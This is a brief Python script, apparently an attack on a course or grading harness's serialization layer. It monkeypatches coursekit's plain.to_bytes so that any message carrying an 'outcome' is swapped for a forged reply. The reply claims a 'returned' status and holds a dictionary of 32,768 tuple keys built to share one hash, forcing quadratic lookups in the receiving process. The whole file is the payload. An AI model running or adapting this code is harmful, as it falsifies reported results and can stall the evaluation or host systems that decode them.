"""A dictionary whose keys all have one hash: looking one up means comparing it with all others."""
import itertools, json, struct
from coursekit import plain
real = plain.to_bytes
keys = [{"$": "tuple", "v": key} for key in itertools.product((-1, -2), repeat=15)]
value = {"$": "dict", "v": [["status", "returned"], ["value", {"$": "dict", "v": [[key, 0] for key in keys]}]]}
def forged(message):
    tree = {"$": "dict", "v": [["id", message["id"]], ["outcome", value]]}
    head = json.dumps({"tree": tree, "kinds": [], "arrays": []}).encode()
    return plain.MAGIC + struct.pack(">I", len(head)) + head
plain.to_bytes = lambda m, *more: forged(m) if "outcome" in m else real(m, *more)
